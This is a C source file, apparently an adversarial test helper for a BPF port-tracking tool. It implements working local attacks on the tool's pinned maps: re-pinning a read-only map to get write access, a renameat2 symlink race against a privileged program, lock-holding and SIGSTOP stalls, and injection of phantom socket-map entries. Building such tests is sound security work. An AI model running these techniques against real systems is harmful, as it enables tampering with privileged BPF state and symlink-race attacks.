// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * pinattack: what somebody who means ill does with a tracker's pins, by his own program.
 *
 *	pinattack reopen PIN WRITABLE	a map that can be read becomes one that can be written:
 *opened read-only, pinned as WRITABLE, opened again. Tells each step pinattack race PLACE VICTIM
 *UID ROUNDS PROGRAM WORD... runs PROGRAM so often, while a process of that user exchanges what is
 *in the directory PLACE without pause: PLACE/pins is a link to VICTIM, a directory with links to
 *VICTIM's folders, or one of his own. Tells how often the program succeeded pinattack lock DIR
 *holds the lock of DIR until it is killed pinattack stop N PROGRAM WORD... starts the program N
 *times and stops it 10 ms later; waits to be killed, and kills them then
 *	pinattack phantom PIN		puts entries into the map of sockets at 400 addresses of
 *which no socket begins at any, as one would who can write it
 */
#include <bpf/bpf.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/bpf.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "portwatch.h"

static int step(const char *what, int result)
{
	printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
	return result;
}

static int reopen(const char *pin, const char *writable)
{
	LIBBPF_OPTS(bpf_obj_get_opts, read_only, .file_flags = BPF_F_RDONLY);
	char value[4096] = "";
	__u32 key = 0;
	int fd = step("open to read", bpf_obj_get_opts(pin, &read_only)), again;

	if (fd < 0)
		return 1;
	step("write through it", bpf_map_update_elem(fd, &key, value, BPF_ANY));
	if (step("pin", bpf_obj_pin(fd, writable)) < 0)
		return 1;
	again = step("open again", bpf_obj_get(writable));
	if (again >= 0)
		step("write", bpf_map_update_elem(again, &key, value, BPF_ANY));
	unlink(writable);
	return 0;
}

/* PLACE/own: a directory with a folder of its own and links; PLACE/link: a link. Each of them takes
 * the place of PLACE/pins in turn, and within own folder and link change places. */
static void attack(const char *place, const char *victim)
{
	char path[4096];

	if (chdir(place) || mkdir("own", 0755) || mkdir("own/maps", 0755) || mkdir("pins", 0755) ||
	    symlink(victim, "link"))
		_exit(2);
	snprintf(path, sizeof(path), "%s/maps", victim);
	if (symlink(path, "own/other"))
		_exit(3);
	snprintf(path, sizeof(path), "%s/links", victim);
	if (symlink(path, "own/links"))
		_exit(4);
	for (;;) {
		renameat2(AT_FDCWD, "pins", AT_FDCWD, "link", RENAME_EXCHANGE);
		renameat2(AT_FDCWD, "pins", AT_FDCWD, "own", RENAME_EXCHANGE);
		renameat2(AT_FDCWD, "own/maps", AT_FDCWD, "own/other", RENAME_EXCHANGE);
		renameat2(AT_FDCWD, "pins/maps", AT_FDCWD, "pins/other", RENAME_EXCHANGE);
	}
}

static pid_t attacker(const char *place, const char *victim, uid_t uid)
{
	pid_t pid = fork();

	if (pid)
		return pid;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (setgroups(0, NULL) || setgid(65534) || setuid(uid))
		_exit(1);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	attack(place, victim);
	return 0;
}

/* Return the exit status of the command, or -1. */
static int run_once(char **words, bool quiet)
{
	pid_t pid = fork();
	int status;

	if (!pid) {
		int null = open("/dev/null", O_RDWR);

		if (quiet && null >= 0) {
			dup2(null, 1);
			dup2(null, 2);
		}
		execv(words[0], words);
		_exit(127);
	}
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return -1;
	return WEXITSTATUS(status);
}

static int race(int argc, char **argv)
{
	int rounds = argc > 5 ? atoi(argv[3]) : 0, ends[256] = {}, status;
	pid_t pid = rounds > 0 ? attacker(argv[0], argv[1], atoi(argv[2])) : -1;

	if (pid < 0)
		return 2;
	usleep(100000);
	for (int i = 0; i < rounds; i++) {
		status = run_once(argv + 4, true);
		if (status >= 0)
			ends[status & 255]++;
	}
	status = waitpid(pid, NULL, WNOHANG);
	kill(pid, SIGKILL);
	printf("rounds=%d ok=%d denied=%d failed=%d attacker=%s\n", rounds, ends[0], ends[3],
	       ends[1] + ends[5], status ? "gone" : "there");
	return ends[0] + ends[3] + ends[1] + ends[5] != rounds;
}

static int hold_lock(const char *dir)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0 || flock(fd, LOCK_EX | LOCK_NB)) {
		printf("%s\n", strerror(errno));
		return 1;
	}
	printf("locked\n");
	fflush(stdout);
	pause();
	return 0;
}

static int stop(int nr, char **words)
{
	for (int i = 0; i < nr; i++) {
		pid_t pid = fork();

		if (!pid) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			execv(words[0], words);
			_exit(127);
		}
		usleep(10000);
		kill(pid, SIGSTOP);
	}
	fprintf(stderr, "stopped\n");
	pause();
	return 0;
}

static int phantom(const char *pin)
{
	struct pw_sock entry = { .flags = PW_F_RELEASED };
	int fd = bpf_obj_get(pin), put = 0;
	__u64 first, key;

	if (fd < 0 || bpf_map_get_next_key(fd, NULL, &first))
		return 1;
	for (int i = 1; i <= 400; i++) {
		key = first + i * 4 + 2; /* where no socket can be */
		put += !bpf_map_update_elem(fd, &key, &entry, BPF_NOEXIST);
	}
	printf("put %d\n", put);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "reopen"))
		return reopen(argv[2], argv[3]);
	if (argc > 7 && !strcmp(argv[1], "race"))
		return race(argc - 2, argv + 2);
	if (argc == 3 && !strcmp(argv[1], "lock"))
		return hold_lock(argv[2]);
	if (argc > 3 && !strcmp(argv[1], "stop"))
		return stop(atoi(argv[2]), argv + 3);
	if (argc == 3 && !strcmp(argv[1], "phantom"))
		return phantom(argv[2]);
	fprintf(stderr, "usage: see the beginning of pinattack.c\n");
	return 2;
}
